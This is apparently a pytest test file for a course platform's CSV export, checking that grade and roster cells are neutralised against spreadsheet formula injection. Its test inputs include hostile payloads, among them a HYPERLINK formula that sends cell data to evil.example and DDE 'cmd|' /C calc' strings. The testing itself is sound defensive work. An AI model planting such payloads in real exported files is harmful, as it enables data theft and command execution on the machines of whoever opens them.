"""Every CSV coursehub writes opens in a spreadsheet as data: no formula runs, no column shifts."""

from __future__ import annotations

import csv
import io
import stat

import pytest

from coursehub.csvsafe import neutralise_cell, render_csv, write_csv_rows
from coursehub.grading.export import CSV_COLUMNS, export_grades_csv, render_grades_csv
from coursehub.grading.layout import ensure_course, make_layout


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-1", "'-1"),  # text that looks like a number is text
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("\uff1dcmd|' /C calc'!A0", "'\uff1dcmd|' /C calc'!A0"),
        ("Dupont, Jr", "Dupont, Jr"),
        ('"quoted"', '"quoted"'),
        ("Zoé", "Zoé"),
        ("", ""),
        (-1.0, -1.0),  # a negative score stays a number
        (-3, -3),
        (4.5, 4.5),
        (None, None),
        (True, "True"),
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_are_kept(cell, expected):
    assert neutralise_cell(cell) == expected


def test_names_with_commas_quotes_and_separators_never_shift_the_columns():
    rows = [
        ["student_id", "last_name", "first_name", "score"],
        ["p1", "Dupont, Jr", '"quoted"', 4.0],
        ["p2", "Roy;=1+1", "line\nbreak", -1.0],
        ["p3", '=HYPERLINK("x","y")', None, 0],
    ]
    text = render_csv(rows)
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert all(len(row) == 4 for row in parsed)
    assert parsed[1] == ["p1", "Dupont, Jr", '"quoted"', "4.0"]
    assert parsed[2] == ["p2", "Roy;'=1+1", "line\nbreak", "-1.0"]
    assert parsed[3][1] == '\'=HYPERLINK("x","y")'
    assert '"Roy;\'=1+1"' in text  # quoted, and no formula even where ';' splits the cell
    assert ",-1.0\r\n" in text  # numbers bare, so they stay numbers


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("Roy;=cmd|' /C calc'!A0;", "Roy;'=cmd|' /C calc'!A0;"),
        ("Roy, +33 6 12", "Roy, '+33 6 12"),
        ("Roy\t@SUM(A1)", "Roy\t'@SUM(A1)"),
        ("Roy\n-2+3", "Roy\n'-2+3"),
        ('Roy;"=1+1"', 'Roy;"\'=1+1"'),
        ("Roy;  \uff1dcmd", "Roy;  '\uff1dcmd"),
        ("=a;=b", "'=a;'=b"),
        (" =1+1", " '=1+1"),
        ("Jean-Pierre", "Jean-Pierre"),
        ("O'Brien-Smith", "O'Brien-Smith"),
        ("Dupont; Jr", "Dupont; Jr"),
    ],
)
def test_a_formula_after_a_separator_inside_a_cell_is_neutralised_too(cell, expected):
    """Excel in a ';' locale splits "Roy;=cmd" into two cells, the second a formula."""
    assert neutralise_cell(cell) == expected


def test_no_cell_of_any_column_starts_a_formula_whatever_the_separator_a_spreadsheet_uses():
    evil = "x;=1+1,@A1\t-2\n+3"
    row = [evil, f"={evil}", "p2609001", evil, evil, 1.0]
    text = render_csv([["assignment", "student_id", "a", "last_name", "first_name", "score"], row])
    for sep in (",", ";", "\t"):
        for line in text.splitlines():
            for cell in line.split(sep):
                assert not cell.strip(' "').startswith(("=", "+", "-", "@")), (sep, cell)


def test_write_csv_rows_writes_to_an_open_file(tmp_path):
    path = tmp_path / "out.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        write_csv_rows(handle, [["a", "@b"], [1, 2.5]])
    assert path.read_bytes() == b'"a","\'@b"\r\n1,2.5\r\n'


@pytest.fixture
def course_with_hostile_names(tmp_path):
    from nbgrader.api import Gradebook

    layout = make_layout("phys-2025", tmp_path / "courses", tmp_path / "exchange", single_user=True)
    ensure_course(layout)
    with Gradebook(layout.db_url, course_id=layout.course_id) as gradebook:
        gradebook.add_assignment("ps1")
        gradebook.add_student(
            "p1",
            last_name='=HYPERLINK("http://evil.example/?"&A1,"click")',
            first_name="Jean, Jr",
            email="+1@x.org",
        )
        gradebook.add_student("p2", last_name='Roy "Z"', first_name="@SUM", email=None)
    return layout


def test_grade_export_neutralises_roster_names_and_keeps_nbgraders_columns(
    course_with_hostile_names, tmp_path
):
    path = export_grades_csv(course_with_hostile_names, tmp_path / "out" / "grades.csv")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == 2
    by_id = {r["student_id"]: r for r in rows}
    assert by_id["p1"]["last_name"].startswith("'=HYPERLINK(")
    assert by_id["p1"]["first_name"] == "Jean, Jr" and by_id["p1"]["email"] == "'+1@x.org"
    assert by_id["p2"]["last_name"] == 'Roy "Z"' and by_id["p2"]["first_name"] == "'@SUM"
    assert {r["score"] for r in rows} == {"0.0"} and {r["max_score"] for r in rows} == {"0.0"}
    assert render_grades_csv(course_with_hostile_names).encode() == path.read_bytes()


def test_web_grades_download_neutralises_names_from_the_roster(database_url, tmp_path, monkeypatch):
    from nbgrader.api import Gradebook

    from coursehub.grading.layout import layout_from_env
    from coursehub.web.testing import (
        IDENTITIES,
        dispose_app,
        identity_headers,
        make_test_app,
        seed_web_catalog,
    )

    monkeypatch.setenv("COURSEHUB_GRADING_COURSES", str(tmp_path / "courses"))
    monkeypatch.setenv("COURSEHUB_GRADING_EXCHANGE", str(tmp_path / "exchange"))
    layout = layout_from_env("mlmeca-2025")
    ensure_course(layout)
    with Gradebook(layout.db_url, course_id=layout.course_id) as gradebook:
        gradebook.add_assignment("ps1")
        gradebook.add_student("p9")
    seed_web_catalog(database_url)
    from coursehub.catalog.courses import get_course
    from coursehub.catalog.db import make_engine, session_scope
    from coursehub.catalog.members import add_member

    engine = make_engine(database_url)  # the names come from the catalog's roster
    with session_scope(engine) as session:
        course = get_course(session, "mlmeca-2025")
        add_member(session, course, "p9", "student", last_name="=1+1", first_name="Dupont, Jr")
    engine.dispose()
    app = make_test_app(database_url)
    try:
        answer = app.test_client().get(
            "/courses/mlmeca-2025/grading/grades.csv",
            headers=identity_headers(IDENTITIES["teacher"]),
        )
    finally:
        dispose_app(app)
    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True), newline="")))
    hostile = [(r["last_name"], r["first_name"]) for r in rows if r["student_id"] == "p9"]
    assert hostile == [("'=1+1", "Dupont, Jr")]
